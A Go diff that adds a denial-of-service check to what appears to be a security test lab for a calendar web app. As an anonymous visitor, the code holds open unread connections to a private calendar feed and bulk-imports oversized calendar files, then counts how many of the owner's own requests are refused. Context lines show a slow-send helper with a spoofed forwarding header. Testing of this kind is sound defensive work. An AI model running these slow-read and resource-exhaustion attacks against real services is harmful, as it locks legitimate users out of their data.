@@ -158,3 +158,75 @@ func (v *visitor) sendSlowly(ctx context.Context, network string) (net.Conn, err
 		"Content-Type: application/json\r\nContent-Length: 500\r\nX-Forwarded-For: %s\r\n\r\n{", host, v.token, network)
 	return conn, err
 }
+
+// unreadFeed requests a private feed twice and reads no answer. Meanwhile its owner exports and
+// searches the calendar.
+func unreadFeed(ctx context.Context, l *lab) (finding, error) {
+	p, err := l.start(ctx)
+	if err != nil {
+		return finding{}, err
+	}
+	owner, err := p.person(ctx, "ada@shop.example")
+	if err != nil {
+		return finding{}, err
+	}
+	if err := owner.fillCalendar(ctx); err != nil {
+		return finding{}, err
+	}
+	got, err := owner.post(ctx, "/api/calendar/feed", nil)
+	if err == nil {
+		err = got.want("the feed", http.StatusCreated)
+	}
+	if err != nil {
+		return finding{}, err
+	}
+	feed, stranger := strings.TrimPrefix(got.field("url"), p.url), p.visitor("")
+	for range 2 {
+		conn, err := stranger.askSilently(ctx, feed)
+		if err != nil {
+			return finding{}, err
+		}
+		defer conn.Close() //nolint:errcheck // it is the attack
+	}
+	pause(ctx, time.Second)
+	refused, asked := 0, 0
+	for range 4 {
+		for _, path := range []string{"/api/events/search?q=heavy", "/api/calendar/export"} {
+			got, err := owner.get(ctx, path)
+			if err != nil {
+				return finding{}, err
+			}
+			asked++
+			switch got.status {
+			case http.StatusOK:
+			case http.StatusTooManyRequests:
+				refused++
+			default:
+				return finding{}, got.want("the owner's request")
+			}
+		}
+	}
+	return finding{refused > 0, fmt.Sprintf("%d of %d requests of the owner refused", refused, asked)}, nil
+}
+
+// fillCalendar imports events until a calendar file doesn't fit into the buffers of a connection.
+func (v *visitor) fillCalendar(ctx context.Context) error {
+	for file := range 10 {
+		var b strings.Builder
+		b.WriteString("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//attack//EN\r\n")
+		for event := range 200 {
+			fmt.Fprintf(&b, "BEGIN:VEVENT\r\nUID:%d-%d@attack.example\r\nDTSTAMP:20260101T080000Z\r\n"+
+				"DTSTART:20260101T080000Z\r\nDTEND:20260101T090000Z\r\nSUMMARY:Heavy\r\nDESCRIPTION:%s\r\nEND:VEVENT\r\n",
+				file, event, strings.Repeat("d", 4500))
+		}
+		b.WriteString("END:VCALENDAR\r\n")
+		got, err := v.sendText(ctx, http.MethodPost, "/api/calendar/import", "text/calendar", []byte(b.String()))
+		if err == nil {
+			err = got.want("an import", http.StatusOK)
+		}
+		if err != nil {
+			return err
+		}
+	}
+	return nil
+}
